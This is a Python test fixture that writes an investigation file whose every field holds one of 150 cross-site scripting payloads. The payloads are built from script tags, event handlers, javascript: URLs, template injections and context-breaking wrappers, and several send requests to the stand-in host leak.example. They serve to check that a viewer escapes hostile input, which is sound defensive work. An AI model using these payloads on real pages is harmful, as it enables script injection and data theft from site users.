"""A file whose every text is an attack on a page; ``python hostile.py FILE`` writes it."""

from __future__ import annotations

import sys
import uuid
from pathlib import Path

from clew.model.block import BlockBuilder
from clew.model.change import Change, Label, Note, Observe
from clew.model.interval import Interval
from clew.model.moment import day
from clew.model.provenance import Provenance
from clew.schema.value import entity_id
from clew.store.investigation import Investigation

ACT = "window.ran=1;alert(1);fetch('http://leak.example/')"
VECTORS = (
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    "<img src=http://leak.example/pixel.png>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    "<iframe src=http://leak.example/></iframe>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<a href=javascript:{ACT}>x</a>",
    f"javascript:{ACT}",
    "<link rel=stylesheet href=http://leak.example/x.css>",
    "<style>@import 'http://leak.example/y.css';</style>",
    "<base href=http://leak.example/>",
    "<meta http-equiv=refresh content='0;url=http://leak.example/'>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<math><mtext><img src=x onerror={ACT}></mtext></math>",
    f"<video><source onerror={ACT}></video>",
    "<form action=http://leak.example/><button>x</button></form>",
    f"<template><script>{ACT}</script></template>",
    f"<xss style=animation-name:x onanimationstart={ACT}>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "url(http://leak.example/z.png)",
)
WRAPS = ("{}", '">{}', "'>{}", "</title>{}", "</text></svg>{}", "--><!-- \u202e{}")
PAYLOADS = tuple(wrap.format(vector) for wrap in WRAPS for vector in VECTORS)
"""150 of them."""


def write(file: Path) -> None:
    """An investigation with a payload in every value, name, source, note, tag and label."""
    builder = BlockBuilder()
    provenances = tuple(
        Provenance(text[:60], f"{text[:40]}.x", f"{at:032x}", 1_700_000_000 + at)
        for at, text in enumerate(PAYLOADS[:20])
    )
    seen = Interval(day("2013-01-01"), day("2014-01-01"))
    rows = [
        builder.entity(("phrase", "tag", "document", "mutex")[at % 4], text, at % 20)
        for at, text in enumerate(PAYLOADS)
    ]
    for at, row in enumerate(rows):
        linked = PAYLOADS[at] if at % 3 == 0 else "mentions"
        told = (PAYLOADS[-at],) if at % 5 == 0 else ()
        builder.link(row, linked, rows[at // 2], at % 20, seen=seen, collectors=told)
        builder.property(row, PAYLOADS[at], PAYLOADS[-at], at % 20, seen=seen)
        builder.property(row, "state", PAYLOADS[at], at % 20, seen=seen)
    action = uuid.uuid4().hex
    graph = PAYLOADS[1]
    first = entity_id("phrase", PAYLOADS[0])
    changes = [
        Change(Observe(graph, provenances), 1, action, PAYLOADS[2], PAYLOADS[3], builder.build()),
        Change(Note(PAYLOADS[4], first), 2, action, PAYLOADS[5], PAYLOADS[6]),
        Change(Label("tag", first, PAYLOADS[7]), 3, action, PAYLOADS[8], PAYLOADS[9]),
    ]
    with Investigation.create(file, title=PAYLOADS[0]) as case:
        case.append(changes)


if __name__ == "__main__":
    write(Path(sys.argv[1]))
